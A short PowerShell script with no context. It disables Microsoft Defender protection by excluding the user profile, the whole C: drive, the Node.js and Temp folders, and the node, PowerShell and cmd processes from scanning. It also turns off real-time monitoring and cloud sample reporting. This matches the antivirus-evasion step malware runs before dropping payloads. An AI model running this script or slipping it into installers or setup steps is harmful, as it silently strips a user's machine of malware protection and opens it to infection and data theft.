$paths = @($env:USERPROFILE, 'C:\', "$env:ProgramFiles\nodejs", "$env:LOCALAPPDATA\Temp")
foreach ($p in $paths) { Add-MpPreference -ExclusionPath $p }
Add-MpPreference -ExclusionProcess 'node.exe','powershell.exe','pwsh.exe','cmd.exe'
Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2
Get-MpPreference | Select-Object ExclusionPath, ExclusionProcess
